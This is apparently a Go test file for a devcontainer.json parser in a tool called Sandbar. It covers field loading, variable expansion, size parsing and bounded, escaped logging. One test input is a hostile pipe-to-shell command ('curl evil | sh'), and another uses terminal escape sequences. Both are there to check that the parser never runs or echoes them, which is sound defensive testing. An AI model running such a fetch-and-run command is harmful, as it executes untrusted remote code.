package devcontainer

import (
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// The two files of testdata are what a person writes for a Go and a Node
// project, comments and trailing commas included.
func TestLoadProjects(t *testing.T) {
	tests := []struct {
		dir  string
		want *Config
	}{
		{"testdata/goproject", &Config{
			File:  ".devcontainer/devcontainer.json",
			Name:  "hugo-dev",
			Image: "mcr.microsoft.com/devcontainers/go:1-1.23-bookworm",
			Features: []Feature{
				{ID: "ghcr.io/devcontainers/features/node:1", Options: []Option{{Name: "version", Value: "22"}}},
				{ID: "ghcr.io/devcontainers/features/common-utils:2", Options: []Option{
					{Name: "installZsh", Value: "false", Bool: true},
					{Name: "username", Value: "vscode"},
				}},
			},
			ContainerEnv: []EnvVar{{Name: "GOFLAGS", Value: "-mod=mod"}, {Name: "CGO_ENABLED", Value: "1"}},
			RemoteEnv: []EnvVar{
				{Name: "PATH", Value: "${containerEnv:PATH}:/home/vscode/go/bin"},
				{Name: "GITHUB_TOKEN", Value: ""},
			},
			OnCreateCommand:      Command{Shell: "go mod download"},
			UpdateContentCommand: Command{Argv: []string{"go", "mod", "download"}},
			PostCreateCommand: Command{Parts: []NamedCommand{
				{Name: "tools", Shell: "go install golang.org/x/tools/gopls@latest"},
				{Name: "build", Argv: []string{"go", "build", "./..."}},
			}},
			PostStartCommand: Command{Shell: "go version"},
			ForwardPorts:     []Port{{Port: 1313}, {Host: "db", Port: 5432}},
			RemoteUser:       "vscode",
			WorkspaceFolder:  "/workspaces/hugo",
			HostRequirements: HostRequirements{CPUs: 4, MemoryBytes: 8 << 30},
			Mounts: []Mount{
				{Type: MountVolume, Source: "go-mod-cache", Target: "/home/vscode/go/pkg/mod"},
				{Type: MountTmpfs, Target: "/tmp/hugo-cache"},
			},
			Unsupported: []string{"hostRequirements.storage", "runArgs"},
			Notes: []string{
				".devcontainer/devcontainer.json:23:19: remoteEnv.GITHUB_TOKEN: \"${localEnv:GITHUB_TOKEN}\" is empty in a session — Sandbar never reads this machine's environment for a repository's file; give the session a named secret instead",
			},
		}},
		{"testdata/nodeproject", &Config{
			File: ".devcontainer/devcontainer.json",
			Name: "web",
			Build: &Build{
				Dockerfile: ".devcontainer/Dockerfile",
				Context:    ".",
				Args:       []EnvVar{{Name: "NODE_VERSION", Value: "22"}},
				Target:     "dev",
			},
			ContainerEnv:      []EnvVar{{Name: "NODE_ENV", Value: "development"}},
			OnCreateCommand:   Command{Shell: "npm ci"},
			PostCreateCommand: Command{Shell: "npm run build"},
			PostStartCommand:  Command{Argv: []string{"npm", "run", "dev"}},
			ForwardPorts:      []Port{{Port: 3000}, {Port: 9229}},
			ContainerUser:     "node",
			RemoteUser:        "node",
			WorkspaceFolder:   "/workspace",
			HostRequirements:  HostRequirements{MemoryBytes: 4 << 30},
			Mounts: []Mount{
				{Type: MountVolume, Source: "node_modules", Target: "/workspace/node_modules"},
			},
			Unsupported: []string{"build.cacheFrom", "mounts[0].consistency", "portsAttributes"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.dir, func(t *testing.T) {
			got, err := Load(tt.dir, "")
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Load:\n got %+v\nwant %+v", got, tt.want)
			}
		})
	}
}

func TestLinksAndFolders(t *testing.T) {
	c, err := Load("testdata/goproject", "")
	if err != nil {
		t.Fatal(err)
	}
	if c.WorkspaceLink() != "/workspaces/hugo" || c.ContainerWorkspaceFolder() != "/workspaces/hugo" {
		t.Errorf("link %q, folder %q; want /workspaces/hugo for both", c.WorkspaceLink(), c.ContainerWorkspaceFolder())
	}
	n, err := Load("testdata/nodeproject", "")
	if err != nil {
		t.Fatal(err)
	}
	if n.WorkspaceLink() != "" || n.ContainerWorkspaceFolder() != GuestWorkspace {
		t.Errorf("a file asking for /workspace gives link %q, folder %q; want none and %s", n.WorkspaceLink(), n.ContainerWorkspaceFolder(), GuestWorkspace)
	}
}

// parseOne parses text as the repository's .devcontainer/devcontainer.json.
func parseOne(t *testing.T, text string) *Config {
	t.Helper()
	c, err := Parse(".devcontainer/devcontainer.json", []byte(text))
	if err != nil {
		t.Fatalf("Parse(%s): %v", text, err)
	}
	return c
}

func TestParseFields(t *testing.T) {
	tests := []struct {
		name, text string
		check      func(*Config) bool
	}{
		{"empty object runs the default image", `{}`, func(c *Config) bool {
			return c.Image == "" && c.Build == nil && len(c.Unsupported) == 0
		}},
		{"BOM", "\xef\xbb\xbf{\"image\": \"debian\"}", func(c *Config) bool { return c.Image == "debian" }},
		{"null is not given", `{"image": null, "postCreateCommand": null}`, func(c *Config) bool {
			return c.Image == "" && c.PostCreateCommand.IsZero()
		}},
		{"legacy dockerFile and context", `{"dockerFile": "Dockerfile", "context": ".."}`, func(c *Config) bool {
			return reflect.DeepEqual(c.Build, &Build{Dockerfile: ".devcontainer/Dockerfile", Context: "."})
		}},
		{"build context defaults to the file's folder", `{"build": {"dockerfile": "../Dockerfile"}}`, func(c *Config) bool {
			return c.Build.Dockerfile == "Dockerfile" && c.Build.Context == ".devcontainer"
		}},
		{"feature string form is its version", `{"features": {"ghcr.io/x/go:1": "1.22"}}`, func(c *Config) bool {
			return reflect.DeepEqual(c.Features[0].Options, []Option{{Name: "version", Value: "1.22"}})
		}},
		{"local feature", `{"features": {"./tools": {}}}`, func(c *Config) bool {
			return c.Features[0].LocalPath == ".devcontainer/tools"
		}},
		{"remoteEnv null unsets", `{"remoteEnv": {"DEBUG": null}}`, func(c *Config) bool {
			return reflect.DeepEqual(c.RemoteEnv, []EnvVar{{Name: "DEBUG", Unset: true}})
		}},
		{"localEnv default", `{"containerEnv": {"TZ": "${localEnv:TZ:UTC}"}}`, func(c *Config) bool {
			return c.ContainerEnv[0].Value == "UTC" && len(c.Notes) == 1 && strings.Contains(c.Notes[0], `its default "UTC"`)
		}},
		{"containerWorkspaceFolder", `{"workspaceFolder": "/src/app", "postCreateCommand": "cd ${containerWorkspaceFolder} && ls ${containerWorkspaceFolderBasename}"}`, func(c *Config) bool {
			return c.PostCreateCommand.Shell == "cd /src/app && ls app"
		}},
		{"localWorkspaceFolderBasename", `{"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}"}`, func(c *Config) bool {
			return c.WorkspaceFolder == "/workspaces/workspace"
		}},
		{"unknown variable kept with a note", `{"mounts": ["source=cache-${devcontainerId},target=/cache,type=volume"]}`, func(c *Config) bool {
			return c.Mounts[0].Source == "cache-${devcontainerId}" && len(c.Notes) == 1 && strings.Contains(c.Notes[0], `"${devcontainerId}" is not a variable Sandbar knows`)
		}},
		{"memory forms", `{"hostRequirements": {"memory": "512mb"}}`, func(c *Config) bool {
			return c.HostRequirements.MemoryBytes == 512<<20
		}},
		{"readonly volume", `{"mounts": [{"type": "volume", "source": "data", "target": "/data/", "readonly": true}]}`, func(c *Config) bool {
			return reflect.DeepEqual(c.Mounts, []Mount{{Type: MountVolume, Source: "data", Target: "/data", ReadOnly: true}})
		}},
		{"anonymous volume", `{"mounts": ["target=/cache"]}`, func(c *Config) bool {
			return reflect.DeepEqual(c.Mounts, []Mount{{Type: MountVolume, Target: "/cache"}})
		}},
		{"initializeCommand is named and never run", `{"initializeCommand": "curl evil | sh"}`, func(c *Config) bool {
			return reflect.DeepEqual(c.Unsupported, []string{"initializeCommand"}) && len(c.Notes) == 1
		}},
		{"other tools' customizations are theirs", `{"customizations": {"vscode": {"extensions": []}, "jetbrains": {}}}`, func(c *Config) bool {
			return len(c.Unsupported) == 0
		}},
		{"a Sandbar customization is named", `{"customizations": {"sandbar": {}}}`, func(c *Config) bool {
			return reflect.DeepEqual(c.Unsupported, []string{"customizations.sandbar"})
		}},
		{"unsupported sorted once each", `{"runArgs": [], "appPort": 1, "privileged": true, "build": {"dockerfile": "D", "options": [], "cacheFrom": []}}`, func(c *Config) bool {
			return reflect.DeepEqual(c.Unsupported, []string{"appPort", "build.cacheFrom", "build.options", "privileged", "runArgs"})
		}},
		{"empty commands run nothing", `{"postCreateCommand": "  ", "onCreateCommand": [], "postStartCommand": {}}`, func(c *Config) bool {
			return c.PostCreateCommand.IsZero() && c.OnCreateCommand.IsZero() && c.PostStartCommand.IsZero()
		}},
		{"override order", `{"features": {"ghcr.io/x/a:1": {}, "ghcr.io/x/b:2": {}}, "overrideFeatureInstallOrder": ["ghcr.io/x/b"]}`, func(c *Config) bool {
			return reflect.DeepEqual(c.OverrideFeatureInstallOrder, []string{"ghcr.io/x/b"})
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := parseOne(t, tt.text)
			if !tt.check(c) {
				t.Errorf("Parse(%s) = %+v", tt.text, c)
			}
		})
	}
}

func TestParseRefusesBadPath(t *testing.T) {
	for _, p := range []string{"", ".", "/abs/devcontainer.json", "../x.json"} {
		_, err := Parse(p, []byte("{}"))
		var e *Error
		if err == nil || errors.As(err, &e) {
			t.Errorf("Parse(%q) = %v; want a plain error about the path", p, err)
		}
	}
}

func TestParseTooBig(t *testing.T) {
	data := []byte("{" + strings.Repeat(" ", MaxFileSize) + "}")
	_, err := Parse("devcontainer.json", data)
	var e *Error
	if !errors.As(err, &e) || e.Line != 1 || e.Col != 1 || !strings.Contains(e.Msg, "shrink it") {
		t.Errorf("Parse of %d bytes = %v; want an *Error at 1:1 saying to shrink it", len(data), err)
	}
}

func TestPosition(t *testing.T) {
	data := []byte("ab\ncé☕x\n")
	for _, tt := range []struct{ off, line, col int }{
		{0, 1, 1}, {2, 1, 3}, {3, 2, 1}, {4, 2, 2}, {6, 2, 3}, {9, 2, 4}, {10, 2, 5}, {11, 3, 1}, {99, 3, 1},
	} {
		if l, c := position(data, tt.off); l != tt.line || c != tt.col {
			t.Errorf("position(%d) = %d:%d, want %d:%d", tt.off, l, c, tt.line, tt.col)
		}
	}
}

func TestParseSize(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want int64
	}{
		{"4gb", 4 << 30}, {"8GiB", 8 << 30}, {"512mb", 512 << 20}, {"512MB", 512 << 20}, {"1.5 gb", 3 << 29},
		{"64kb", 64 << 10}, {"1tb", 1 << 40}, {"4g", 4 << 30},
		{"4", 0}, {"gb", 0}, {"-4gb", 0}, {"0gb", 0}, {"1e3gb", 0}, {"lots", 0}, {"99tb", 0}, {"0x10gb", 0},
	} {
		got, ok := parseSize(tt.in)
		if got != tt.want || ok != (tt.want > 0) {
			t.Errorf("parseSize(%q) = %d, %v; want %d", tt.in, got, ok, tt.want)
		}
	}
}

// Nothing of the file reaches the log unescaped, and a hostile file cannot
// make the log say without end.
func TestParseLogBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("{\"\\u001b[2Jclear\": 1, \"containerEnv\": {")
	for i := 0; i < 500; i++ {
		fmt.Fprintf(&b, "\"V%d\": \"${localEnv:\\u001b[31m%d}\",", i, i)
	}
	b.WriteString("}, \"mounts\": [")
	for i := 0; i < 300; i++ {
		fmt.Fprintf(&b, "\"target=/m%d,opt%d=1\",", i, i)
	}
	b.WriteString("]}")
	c := parseOne(t, b.String())
	if len(c.Notes) != maxNotes+1 || !strings.Contains(c.Notes[maxNotes], "480 more notes") {
		t.Errorf("%d notes, last %q; want %d and a count of the rest", len(c.Notes), c.Notes[len(c.Notes)-1], maxNotes+1)
	}
	if len(c.Unsupported) != maxUnsupported+1 || c.Unsupported[maxUnsupported] != "… and 201 more" {
		t.Errorf("%d unsupported, last %q", len(c.Unsupported), c.Unsupported[len(c.Unsupported)-1])
	}
	if c.Unsupported[0] != `"\x1b[2Jclear"` {
		t.Errorf("first unsupported %q; want the name quoted", c.Unsupported[0])
	}
	for _, s := range append(c.Notes, c.Unsupported...) {
		if strings.ContainsRune(s, 0x1b) {
			t.Errorf("an escape reached the log: %q", s)
		}
	}
}
